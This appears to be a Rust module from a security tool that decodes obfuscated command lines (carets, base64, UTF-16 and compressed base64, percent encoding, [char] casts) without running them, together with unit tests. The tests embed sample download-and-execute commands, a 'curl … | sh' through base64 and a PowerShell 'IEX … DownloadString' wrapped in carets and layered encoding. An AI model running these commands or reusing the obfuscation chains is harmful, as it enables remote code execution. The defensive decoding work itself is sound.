//! Command lines that hide what they do, made readable.
//!
//! Undoes what PowerShell, cmd and web addresses undo: base64 and what is compressed in
//! it, carets, percent signs, `[char]` numbers. Nothing is run and nothing is followed.
//! Whoever wrote the command line chose it to be read wrongly, so all is bounded: what is
//! read, how deep it goes, and what comes out.

use std::io::Read;

use base64::Engine as _;
use base64::alphabet;
use base64::engine::DecodePaddingMode;
use base64::engine::GeneralPurpose;
use base64::engine::GeneralPurposeConfig;
use flate2::read::DeflateDecoder;
use flate2::read::GzDecoder;
use flate2::read::ZlibDecoder;

use crate::domain::text::Text;
use crate::domain::text::start_of;

/// Bytes of a command line that are read, and of a decoded one that are kept. Windows
/// allows 32,767 letters.
const LONGEST: usize = 64 * 1024;
/// Bytes that one command line may grow to in all that is unpacked from it.
const MOST_UNPACKED: u64 = 256 * 1024;
/// A decoded text may be encoded again, this often.
const DEEPEST: usize = 4;
/// Letters of base64 that are tried wherever they stand; shorter ones are words.
const LONG_RUN: usize = 20;
/// Letters of base64 that are tried behind a switch that says so.
const SHORT_RUN: usize = 8;
/// Bytes before a run in which its switch is looked for.
const NEAR: usize = 32;
/// Fewer of one kind are taken for what they look like.
const SEVERAL: usize = 3;

/// Half a group at the end and bits that mean nothing do no harm: command lines are cut.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// A command line with what was encoded in it decoded in its place.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    pub text: Text,
    /// What was undone, outermost first.
    pub layers: Vec<Layer>,
    /// There was more than is ever decoded.
    pub is_cut: bool,
}

/// One way of hiding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Layer {
    Carets,
    Base64,
    /// As PowerShell takes it.
    Base64OfUtf16,
    Base64OfCompressed,
    Percents,
    Characters,
}

impl Layer {
    /// What a note calls it.
    pub const fn words(self) -> &'static str {
        match self {
            Self::Carets => "carets",
            Self::Base64 => "base64",
            Self::Base64OfUtf16 => "base64 of UTF-16",
            Self::Base64OfCompressed => "base64, compressed",
            Self::Percents => "percent signs",
            Self::Characters => "[char] numbers",
        }
    }
}

impl Decoded {
    /// What was undone, in words: `carets, then base64 of UTF-16`.
    pub fn how(&self) -> String {
        let words: Vec<&str> = self.layers.iter().map(|layer| layer.words()).collect();
        let cut = if self.is_cut { ", cut" } else { "" };
        format!("{}{cut}", words.join(", then "))
    }
}

/// Decodes a command line. None where nothing in it is encoded.
pub fn decoded(command: &str) -> Option<Decoded> {
    let mut room = Room {
        unpacked: MOST_UNPACKED,
        is_cut: command.len() > LONGEST,
    };
    let mut text = start_of(command, LONGEST).to_owned();
    let mut layers = Vec::new();
    while layers.len() < DEEPEST {
        let undone = without_carets(&text)
            .or_else(|| without_base64(&text, &mut room))
            .or_else(|| without_percents(&text))
            .or_else(|| without_characters(&text));
        let Some((layer, without)) = undone else {
            break;
        };
        layers.push(layer);
        room.is_cut |= without.len() > LONGEST;
        start_of(&without, LONGEST).clone_into(&mut text);
    }
    (!layers.is_empty()).then(|| Decoded {
        text: Text::from(text),
        layers,
        is_cut: room.is_cut,
    })
}

/// What is left of the bounds.
struct Room {
    unpacked: u64,
    is_cut: bool,
}

/// `p^ow^er^shell` is what cmd reads as `powershell`.
fn without_carets(text: &str) -> Option<(Layer, String)> {
    let before_letter = |(at, _): &(usize, &str)| {
        let after = text.get(at + 1..).and_then(|rest| rest.chars().next());
        after.is_some_and(char::is_alphanumeric)
    };
    if text.match_indices('^').filter(before_letter).count() < SEVERAL {
        return None;
    }
    let mut without = String::with_capacity(text.len());
    let mut letters = text.chars();
    while let Some(letter) = letters.next() {
        match letter {
            '^' => without.extend(letters.next()),
            other => without.push(other),
        }
    }
    Some((Layer::Carets, without))
}

fn without_base64(text: &str, room: &mut Room) -> Option<(Layer, String)> {
    let mut without = String::new();
    let mut copied = 0;
    let mut found = None;
    for (start, end) in runs(text) {
        let run = text.get(start..end).unwrap_or_default();
        let shortest = if is_after_switch(text, start) {
            SHORT_RUN
        } else {
            LONG_RUN
        };
        // A path before it looks the same.
        let last = run.rfind('/').map_or(0, |slash| slash + 1);
        let tried = [0, last].into_iter().find_map(|skipped| {
            let run = run.get(skipped..).filter(|run| run.len() >= shortest)?;
            Some((skipped, of_base64(run, room)?))
        });
        let Some((skipped, (layer, decoded))) = tried else {
            continue;
        };
        without.push_str(text.get(copied..start + skipped).unwrap_or_default());
        without.push_str(&decoded);
        copied = end;
        found = found.or(Some(layer));
        if without.len() > LONGEST {
            break;
        }
    }
    without.push_str(text.get(copied..).unwrap_or_default());
    Some((found?, without))
}

/// Where letters of base64 stand side by side, padding included.
fn runs(text: &str) -> impl Iterator<Item = (usize, usize)> {
    let bytes = text.as_bytes();
    let mut from = 0;
    std::iter::from_fn(move || {
        let rest = bytes.get(from..)?;
        let start = from + rest.iter().position(|byte| is_base64(*byte))?;
        let rest = bytes.get(start..)?;
        let letters = rest.iter().take_while(|byte| is_base64(**byte)).count();
        let padding = rest.iter().skip(letters).take_while(|byte| **byte == b'=');
        let end = start + letters + padding.count().min(2);
        from = end;
        Some((start, end))
    })
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// PowerShell takes every beginning of `-EncodedCommand`, with any kind of dash.
fn is_after_switch(text: &str, start: usize) -> bool {
    // No further back: there may be as many runs as letters.
    let near = (start.saturating_sub(NEAR)..=start).find_map(|from| text.get(from..start));
    let unquoted = near.unwrap_or_default().trim_end_matches(['"', '\'']);
    let named = unquoted.trim_end_matches([' ', '\t', ':', '=']);
    let name = named.rsplit(char::is_whitespace).next().unwrap_or_default();
    let stripped = name.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']);
    stripped.is_some_and(|name| {
        let name = name.to_ascii_lowercase();
        !name.is_empty() && ("encodedcommand".starts_with(&name) || name == "ec")
    })
}

fn of_base64(run: &str, room: &mut Room) -> Option<(Layer, String)> {
    let letters = run.trim_end_matches('=');
    // One letter over is half of something that was cut off.
    let whole = letters.len() - usize::from(letters.len() % 4 == 1);
    let bytes = BASE64.decode(letters.get(..whole)?).ok()?;
    if let Some(text) = of_utf16(&bytes) {
        return Some((Layer::Base64OfUtf16, text));
    }
    if let Some(text) = of_utf8(&bytes) {
        return Some((Layer::Base64, text));
    }
    let unpacked = unpacked(&bytes, room)?;
    let text = of_utf16(&unpacked).or_else(|| of_utf8(&unpacked))?;
    Some((Layer::Base64OfCompressed, text))
}

/// Sixteen bits a letter, as PowerShell takes it: blanks and signs of every script have
/// an empty upper half, and bytes of anything else seldom have.
fn of_utf16(bytes: &[u8]) -> Option<String> {
    let (units, _half) = bytes.as_chunks::<2>();
    let units: Vec<u16> = units.iter().map(|unit| u16::from_le_bytes(*unit)).collect();
    let plain = units.iter().filter(|unit| **unit < 0x100).count();
    if units.len() < SEVERAL || plain * 4 < units.len() {
        return None;
    }
    let text = String::from_utf16(&units).ok()?;
    readable(&text)
}

fn of_utf8(bytes: &[u8]) -> Option<String> {
    // The last letter may be cut in two.
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        Err(error) if error.error_len().is_none() => {
            std::str::from_utf8(bytes.get(..error.valid_up_to())?).ok()?
        }
        Err(_no_text) => return None,
    };
    readable(text)
}

/// A text that someone wrote, without the zeros after its end.
fn readable(text: &str) -> Option<String> {
    let text = text.trim_end_matches('\0');
    (!text.trim().is_empty() && text.chars().all(is_written)).then(|| text.to_owned())
}

fn is_written(letter: char) -> bool {
    !letter.is_control() || matches!(letter, '\t' | '\r' | '\n')
}

/// What gzip, zlib or bare deflate made small. A stream that breaks off has said
/// something too.
fn unpacked(bytes: &[u8], room: &mut Room) -> Option<Vec<u8>> {
    let most = room.unpacked.min(LONGEST as u64);
    let mut unpacked = Vec::new();
    let ended = match bytes {
        [0x1f, 0x8b, ..] => GzDecoder::new(bytes).take(most).read_to_end(&mut unpacked),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => ZlibDecoder::new(bytes)
            .take(most)
            .read_to_end(&mut unpacked),
        _ => DeflateDecoder::new(bytes)
            .take(most)
            .read_to_end(&mut unpacked),
    };
    let size = unpacked.len() as u64;
    room.unpacked = room.unpacked.saturating_sub(size);
    let breaks_off = ended.is_err() || size == most;
    room.is_cut |= breaks_off && readable_start(&unpacked);
    (size > 0).then_some(unpacked)
}

fn readable_start(bytes: &[u8]) -> bool {
    of_utf8(bytes).or_else(|| of_utf16(bytes)).is_some()
}

/// `%49%45%58`, where several stand and mean letters: names of variables have them too.
fn without_percents(text: &str) -> Option<(Layer, String)> {
    let mut without = String::with_capacity(text.len());
    let mut rest = text;
    let mut found = 0;
    while let Some((before, from)) = rest.find('%').and_then(|at| rest.split_at_checked(at)) {
        without.push_str(before);
        let mut bytes = Vec::new();
        let mut after = from;
        while let Some((byte, left)) = escaped_byte(after) {
            bytes.push(byte);
            after = left;
        }
        match std::str::from_utf8(&bytes) {
            Ok(letters) if !bytes.is_empty() && letters.chars().all(is_written) => {
                found += bytes.len();
                without.push_str(letters);
                rest = after;
            }
            // Left as it is, all of it: what is tried again from every place takes as
            // long as someone wants.
            Ok(_) | Err(_) => {
                let length = (from.len() - after.len()).max(1);
                without.push_str(from.get(..length).unwrap_or_default());
                rest = from.get(length..).unwrap_or_default();
            }
        }
    }
    without.push_str(rest);
    (found >= SEVERAL).then_some((Layer::Percents, without))
}

fn escaped_byte(text: &str) -> Option<(u8, &str)> {
    let (digits, left) = text.strip_prefix('%')?.split_at_checked(2)?;
    let are_digits = digits.bytes().all(|digit| digit.is_ascii_hexdigit());
    let byte = u8::from_str_radix(digits, 16).ok().filter(|_| are_digits)?;
    Some((byte, left))
}

/// `[char]73+[char]0x45+[char]88`, several in a row.
fn without_characters(text: &str) -> Option<(Layer, String)> {
    let mut without = String::with_capacity(text.len());
    let mut rest = text;
    let mut found = false;
    while let Some((before, from)) = rest.find('[').and_then(|at| rest.split_at_checked(at)) {
        without.push_str(before);
        let mut letters = String::new();
        let mut after = from;
        let mut next = character(from);
        while let Some((letter, left)) = next {
            letters.push(letter);
            after = left;
            next = left.trim_start().strip_prefix('+').and_then(character);
        }
        if letters.chars().count() >= SEVERAL {
            found = true;
            without.push('\'');
            without.push_str(&letters);
            without.push('\'');
            rest = after;
        } else {
            without.push('[');
            rest = from.get(1..).unwrap_or_default();
        }
    }
    without.push_str(rest);
    found.then_some((Layer::Characters, without))
}

/// One `[char]` number, and what stands behind it.
fn character(text: &str) -> Option<(char, &str)> {
    const CAST: &str = "[char]";
    let (cast, number) = text.trim_start().split_at_checked(CAST.len())?;
    if !cast.eq_ignore_ascii_case(CAST) {
        return None;
    }
    let number = number.trim_start();
    let (radix, number) = match number.get(..2) {
        Some("0x" | "0X") => (16, number.get(2..)?),
        _ => (10, number),
    };
    let end = number
        .find(|digit: char| !digit.is_digit(radix))
        .unwrap_or(number.len());
    let (digits, left) = number.split_at_checked(end)?;
    let letter = char::from_u32(u32::from_str_radix(digits, radix).ok()?)?;
    (!letter.is_control()).then_some((letter, left))
}

#[cfg(test)]
mod tests {
    #![expect(
        clippy::unwrap_used,
        reason = "a test that cannot write its input has failed"
    )]

    use std::io::Write;

    use flate2::Compression;
    use flate2::write::DeflateEncoder;
    use flate2::write::GzEncoder;

    use super::*;

    fn utf16(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        BASE64.encode(bytes)
    }

    fn is(command: &str, expected: &str, how: &str) {
        let read = decoded(command).unwrap();
        assert_eq!((read.text.original(), read.how().as_str()), (expected, how));
    }

    #[test]
    fn each_spelling_of_the_switch_is_known() {
        let code = utf16("whoami");
        for switch in ["-e", "-ec", "-EnC", "/enc", "-encodedcommand", "\u{2013}en"] {
            for quote in ["", "\"", "'"] {
                let command = format!("powershell.exe -nop {switch} {quote}{code}{quote}");
                let expected = format!("powershell.exe -nop {switch} {quote}whoami{quote}");
                is(&command, &expected, "base64 of UTF-16");
            }
        }
    }

    #[test]
    fn a_long_run_is_found_wherever_it_stands() {
        let run = BASE64.encode("curl -s http://203.0.113.9/a | sh");
        is(
            &format!("bash -c \"echo {run}|base64 -d|bash\""),
            "bash -c \"echo curl -s http://203.0.113.9/a | sh|base64 -d|bash\"",
            "base64",
        );
        is(
            &format!("x http://203.0.113.9/q/{run}"),
            "x http://203.0.113.9/q/curl -s http://203.0.113.9/a | sh",
            "base64",
        );
    }

    #[test]
    fn layers_lie_over_each_other() {
        let mut deflated = DeflateEncoder::new(Vec::new(), Compression::best());
        deflated
            .write_all(b"IEX (New-Object Net.WebClient).DownloadString('x')")
            .unwrap();
        let inner = BASE64.encode(deflated.finish().unwrap());
        let outer = utf16(&format!("$z='{inner}'"));
        is(
            &format!("p^ow^er^sh^ell -e {outer}"),
            "powershell -e $z='IEX (New-Object Net.WebClient).DownloadString('x')'",
            "carets, then base64 of UTF-16, then base64, compressed",
        );
        let deep = (0..9).fold("whoami".to_owned(), |text, _| {
            format!("-e {}", utf16(&text))
        });
        assert_eq!(decoded(&deep).unwrap().layers.len(), DEEPEST);
    }

    #[test]
    fn percent_signs_and_numbers_are_letters() {
        is(
            "mshta %6a%61%76a%20script %TEMP%\\a",
            "mshta java script %TEMP%\\a",
            "percent signs",
        );
        is(
            "&([char]73+[CHAR]0x45 + [char]88) [char]65",
            "&('IEX') [char]65",
            "[char] numbers",
        );
    }

    #[test]
    fn what_only_looks_encoded_is_left_alone() {
        for command in [
            "",
            "rundll32.exe C:\\Windows\\System32\\InternationalizationComponents.dll,Start",
            "sha256sum ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
            "/usr/local/lib/systemd/system/multiuser/target/wants/service",
            "grep -e password --exclude=Documents",
            "cmd /c echo %DATE% %ADDRESS% %FAVOURITES% %CD%",
            "findstr ^abc ^[0-9]",
            "schtasks /create /tn 8f2b41cd-0d0e-4c7b-9d8e-0a1b2c3d4e5f",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        ] {
            assert_eq!(decoded(command), None, "{command}");
        }
    }

    #[test]
    fn what_unpacks_without_end_is_cut() {
        let mut bomb = GzEncoder::new(Vec::new(), Compression::best());
        bomb.write_all(&vec![b'A'; 20 << 20]).unwrap();
        let run = BASE64.encode(bomb.finish().unwrap());
        let read = decoded(&format!("x {run} {run}")).unwrap();
        assert!(read.is_cut && read.text.original().len() <= LONGEST);
        assert!(read.how().ends_with(", cut"), "{}", read.how());
    }
}
